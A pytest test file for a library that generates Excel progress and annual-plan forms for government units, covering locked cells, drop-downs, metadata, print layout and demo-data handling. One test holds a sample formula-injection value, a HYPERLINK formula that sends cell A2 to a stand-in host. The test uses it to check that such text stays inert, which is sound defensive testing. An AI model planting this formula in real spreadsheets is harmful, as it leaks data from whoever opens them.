"""Forms: one per unit, exact headers, locked pre-filled cells, drop-downs, metadata, print layout, demo forms."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from jj123lib.core.datadir import mark_demo
from jj123lib.core.formats import display_width, wrapped_lines
from jj123lib.domain.tasks import units
from jj123lib.intake.forms import (
    CONTACT_PHONE_CELL,
    CONTACT_PHONE_LABEL_CELL,
    CONTACT_PHONE_SHEET,
    DEMO_MARK,
    HELP_SHEET,
    META_SHEET,
    PLAN_COLUMNS,
    PLAN_SHEET,
    PROGRESS_COLUMNS,
    PROGRESS_PREFILLED,
    PROGRESS_SHEET,
    QUARTER_WORDS,
    SIGNATURE_LABELS,
    header_columns,
    lead_unit_names,
    load_form,
    read_form_metadata,
    unit_tasks,
    write_forms,
)
from jj123lib.intake.ingest import ingest_files
from tests.ledger_helpers import TASKS, filled_plan, lead_values

pytestmark = pytest.mark.usefixtures("q3_forms_received")


def test_progress_forms_for_every_unit(tmp_path: Path) -> None:
    paths = write_forms("2026q3", out_dir=tmp_path / "out", data_dir=tmp_path / "data")
    assert sorted(p.name for p in paths) == sorted(f"2026Q3_{u}_进度填报.xlsx" for u in units(TASKS))
    assert not (tmp_path / "data").exists()  # making forms does not touch the ledger
    wb = load_form(tmp_path / "out" / "2026Q3_陈埭镇_进度填报.xlsx")
    assert wb.sheetnames[:2] == [PROGRESS_SHEET, HELP_SHEET]
    ws = wb[PROGRESS_SHEET]
    assert [c.value for c in ws[1]] == list(PROGRESS_COLUMNS)
    ids = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
    assert ids == [t for t, us in zip(TASKS["task_id"], TASKS["units"]) if "陈埭镇" in us]
    assert "B24" in ids  # co-unit rows included
    assert ws.protection.sheet and not ws.protection.password
    for col, label in enumerate(PROGRESS_COLUMNS, start=1):
        assert ws.cell(2, col).protection.locked == (label in PROGRESS_PREFILLED)
    assert ws.cell(1, 1).protection.locked
    ranges = {str(dv.sqref): (dv.type, dv.formula1, dv.formula2) for dv in ws.data_validations.dataValidation}
    assert ("list", '"已完成,超进度,达进度,欠进度"', None) in ranges.values()
    assert ("list", '"是,否"', None) in ranges.values()
    assert ("decimal", "0", "100") in ranges.values()
    meta = read_form_metadata(wb)
    assert meta["kind"] == "progress" and meta["period"] == "2026Q3" and meta["unit"] == "陈埭镇"
    assert wb[META_SHEET].sheet_state == "hidden"
    props = {p.name: p.value for p in wb.custom_doc_props}  # type: ignore[attr-defined]  # not in types-openpyxl
    assert props["jj123.unit"] == "陈埭镇" and props["jj123.period"] == "2026Q3"


def test_metadata_falls_back_to_custom_properties(tmp_path: Path) -> None:
    path = write_forms("2026Q3", out_dir=tmp_path, data_dir=tmp_path / "d", units=["商务局"])[0]
    wb = load_form(path)
    del wb[META_SHEET]
    assert read_form_metadata(wb)["unit"] == "商务局"


def test_plan_forms_for_lead_units_and_prefill_progress_forms(tmp_path: Path) -> None:
    paths = write_forms(plan=True, year=2026, out_dir=tmp_path / "plan")
    assert sorted(p.name for p in paths) == sorted(f"2026_{u}_年度计划.xlsx" for u in lead_unit_names(TASKS))
    ws = load_form(tmp_path / "plan" / "2026_商务局_年度计划.xlsx")[PLAN_SHEET]
    assert [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)] == ["N02", "P04", "B06"]
    data = tmp_path / "data"
    assert ingest_files([filled_plan(tmp_path / "f", "商务局")], data)[0].status == "accepted"
    form = write_forms("2026Q3", data_dir=data, units=["商务局"])[0]
    assert form.parent == data / "forms" / "2026Q3"
    ws = load_form(form)[PROGRESS_SHEET]
    assert ws.cell(2, 4).value == "完成第3阶段成果验收" and ws.cell(2, 5).value == 70


def test_prefilled_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    import pandas as pd

    from jj123lib.intake.forms import build_progress_form

    hostile = '=HYPERLINK("http://example.invalid/?"&A2,"点击查看")'
    plan = pd.DataFrame([{"task_id": "N02", "quarter": "2026Q3", "milestone": hostile, "planned_pct": 70.0}])
    path = tmp_path / "form.xlsx"
    build_progress_form("商务局", "2026Q3", TASKS, plan).save(path)
    ws = load_form(path)[PROGRESS_SHEET]
    cell = ws.cell(2, PROGRESS_COLUMNS.index("本季度节点目标") + 1)
    assert cell.value == hostile and cell.data_type == "s"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_forms_for_a_year_outside_the_task_table_are_refused(tmp_path: Path) -> None:
    import pytest

    from jj123lib.core.exceptions import ParameterError

    for kwargs in ({"quarter": "2027Q1"}, {"plan": True, "year": 1999}):
        with pytest.raises(ParameterError, match="2026"):
            write_forms(out_dir=tmp_path / "f", **kwargs)
    assert not (tmp_path / "f").exists()


def _sheets(path: Path) -> tuple[Worksheet, Worksheet]:
    wb = load_form(path)
    main = wb.worksheets[0]
    assert isinstance(main, Worksheet)
    return main, wb[HELP_SHEET]


def test_display_width_counts_cjk_twice_and_lines_follow_it() -> None:
    assert display_width("住建局") == 6 and display_width("N05 2026") == 8 and display_width("（１）") == 6
    assert wrapped_lines("住" * 10, 21) == 1  # 20 units fit a 21-wide column (one unit of padding)
    assert wrapped_lines("住" * 11, 21) == 2
    assert wrapped_lines("a" * 41, 21) == 3
    assert wrapped_lines("一\n二\n", 21) == 3  # explicit line breaks, including an empty last line


def test_every_form_prints_a4_landscape_one_page_wide_with_grid_and_signature(tmp_path: Path) -> None:
    progress = write_forms("2026Q3", out_dir=tmp_path / "q", units=["陈埭镇"])[0]
    plan = write_forms(plan=True, year=2026, out_dir=tmp_path / "p", units=["陈埭镇"])[0]
    for path, columns in ((progress, PROGRESS_COLUMNS), (plan, PLAN_COLUMNS)):
        ws, help_ws = _sheets(path)
        for sheet in (ws, help_ws):
            setup = sheet.page_setup
            assert setup.paperSize == 9 and setup.orientation == "landscape"  # 9: A4 in OOXML
            # The form runs as many pages down as its rows need; the 填报说明 is one sheet of paper.
            assert (setup.fitToWidth, setup.fitToHeight) == ((1, 0) if sheet is ws else (1, 1))
            assert sheet.sheet_properties.pageSetUpPr is not None and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == "$1:$1"
        header, footer = ws.oddHeader, ws.oddFooter
        assert header is not None and footer is not None
        title = load_form(path).properties.title
        assert header.center.text == title and "陈埭镇" in str(title)
        assert str(header.right.text).endswith("第 &P 页 共 &N 页") and "督查室" in str(header.right.text)
        assert str(header.left.text).startswith("报送截止：2026年")
        signature = str(footer.left.text) + str(footer.right.text)
        for label in SIGNATURE_LABELS:
            assert label + "：" in signature
        assert ws.page_margins.bottom > ws.page_margins.footer  # the footer sits inside the bottom margin
        widths = [ws.column_dimensions[get_column_letter(c)].width for c in range(1, len(columns) + 1)]
        for number, row in enumerate(ws.iter_rows(min_row=1, max_row=ws.max_row, max_col=len(columns)), start=1):
            for cell in row:
                assert cell.border.left.style == cell.border.bottom.style == "thin", cell.coordinate
                assert cell.alignment.wrap_text
            lines = max(wrapped_lines(str(c.value), w) for c, w in zip(row, widths) if c.value is not None)
            height = ws.row_dimensions[number].height
            assert height is not None and height >= lines * 15, number
        # Rows are one page wide at a readable scale: the columns add up to less than three pages' worth.
        assert sum(w for w in widths if w) < 3 * 100
        # Nothing below the task rows: ingest reads every row of the main sheet.
        assert ws.max_row == 1 + len(unit_tasks(TASKS, "陈埭镇", lead_only=columns == PLAN_COLUMNS))


def test_row_heights_follow_the_wrapped_task_names_and_milestone_columns_are_wide(tmp_path: Path) -> None:
    ws, _ = _sheets(write_forms("2026Q3", out_dir=tmp_path, units=["陈埭镇", "住建局"])[0])
    widths = [ws.column_dimensions[get_column_letter(c)].width for c in range(1, 6)]
    lines = {r: max(wrapped_lines(str(ws.cell(r, c).value), w) for c, w in enumerate(widths, start=1)
                    if ws.cell(r, c).value is not None) for r in range(2, ws.max_row + 1)}
    heights = {r: ws.row_dimensions[r].height or 0 for r in lines}
    assert len(set(lines.values())) > 1  # 陈埭镇's names and unit lists wrap to different depths
    for r in lines:
        for other in lines:
            if lines[r] > lines[other]:
                assert heights[r] > heights[other], (r, other)
    plan_ws, _ = _sheets(write_forms(plan=True, year=2026, out_dir=tmp_path / "p", units=["陈埭镇"])[0])
    for word in QUARTER_WORDS:
        letter = get_column_letter(PLAN_COLUMNS.index(f"{word}节点目标") + 1)
        # A milestone is a sentence of up to 20 characters, such as "完成项目立项批复并开工建设": two lines at most.
        assert wrapped_lines("完成项目立项批复并开工建设主体结构封顶", plan_ws.column_dimensions[letter].width) <= 2


def test_help_sheet_wraps_on_the_page_and_says_how_to_send(tmp_path: Path) -> None:
    path = write_forms("2026Q3", out_dir=tmp_path, units=["住建局"])[0]
    _, help_ws = _sheets(path)
    width = help_ws.column_dimensions["A"].width
    lines = [str(c.value) for c in help_ws["A"] if c.value is not None]
    for number, row in enumerate(help_ws.iter_rows(min_row=1, max_row=help_ws.max_row), start=1):
        cell = row[0]
        assert cell.alignment.wrap_text
        height = help_ws.row_dimensions[number].height
        if cell.value is not None:
            assert height is not None and height >= wrapped_lines(str(cell.value), width) * 15, cell.coordinate
    text = "\n".join(lines)
    for words in ("公章", "签字", "打印", "CSV UTF-8", "2026Q3_住建局_进度填报.csv", ".xlsx"):
        assert words in text, words
    plan_text = "\n".join(str(c.value) for c in _sheets(write_forms(plan=True, year=2026, out_dir=tmp_path / "p",
                                                                     units=["住建局"])[0])[1]["A"] if c.value)
    assert "2026_住建局_年度计划.csv" in plan_text and "公章" in plan_text


def test_contact_phone_is_an_unlocked_text_input_where_documented(tmp_path: Path) -> None:
    for path in (write_forms("2026Q3", out_dir=tmp_path, units=["住建局"])[0],
                 write_forms(plan=True, year=2026, out_dir=tmp_path / "p", units=["住建局"])[0]):
        wb = load_form(path)
        sheet = wb[CONTACT_PHONE_SHEET]
        assert "联系电话" in str(sheet[CONTACT_PHONE_LABEL_CELL].value)
        phone = sheet[CONTACT_PHONE_CELL]
        assert phone.value is None and not phone.protection.locked and phone.number_format == "@"
        assert sheet.protection.sheet and sheet[CONTACT_PHONE_LABEL_CELL].protection.locked
        checks = [dv for dv in sheet.data_validations.dataValidation if CONTACT_PHONE_CELL in str(dv.sqref)]
        assert [(dv.type, dv.formula1, dv.formula2) for dv in checks] == [("textLength", "7", "20")]


def test_forms_from_a_demo_folder_are_demo_forms_and_stay_there(tmp_path: Path) -> None:
    demo_dir, real_dir = tmp_path / "demo", tmp_path / "real"
    mark_demo(demo_dir, 1)
    paths = write_forms("2026Q3", data_dir=demo_dir, units=["住建局", "商务局"])
    assert all(p.parent == demo_dir / "forms" / "2026Q3" for p in paths)
    real = write_forms("2026Q3", data_dir=real_dir, units=["住建局"])[0]
    assert read_form_metadata(load_form(real))["demo"] == "0"
    wb = load_form(real)
    assert DEMO_MARK not in str(wb.properties.title) and wb.worksheets[0].sheet_properties.tabColor is None
    wb = load_form(paths[0])
    assert read_form_metadata(wb)["demo"] == "1"
    ws, help_ws = wb.worksheets[0], wb[HELP_SHEET]
    assert isinstance(ws, Worksheet)
    header = ws.oddHeader
    assert header is not None and DEMO_MARK in str(header.center.text)
    assert DEMO_MARK in str(wb.properties.title) and DEMO_MARK in str(help_ws["A1"].value)
    assert ws.sheet_properties.tabColor is not None
    plan = write_forms(plan=True, year=2026, data_dir=demo_dir, units=["住建局"])[0]
    assert read_form_metadata(load_form(plan))["demo"] == "1"

    # Fill the generated form as a clerk would, then send it back.
    cols = header_columns(ws)
    leads = dict(zip(TASKS["task_id"], TASKS["lead_unit"]))
    for row in range(2, ws.max_row + 1):
        task_id = ws.cell(row, cols["任务编号"]).value
        if leads[task_id] == "住建局":
            for label, value in lead_values(str(task_id)).items():
                ws.cell(row, cols[label]).value = value
    wb.save(paths[0])
    refused = ingest_files([paths[0]], real_dir)[0]
    assert refused.status != "accepted" and "示例数据" in refused.message() and "正式数据目录" in refused.message()
    assert ingest_files([paths[0]], demo_dir)[0].status == "accepted"
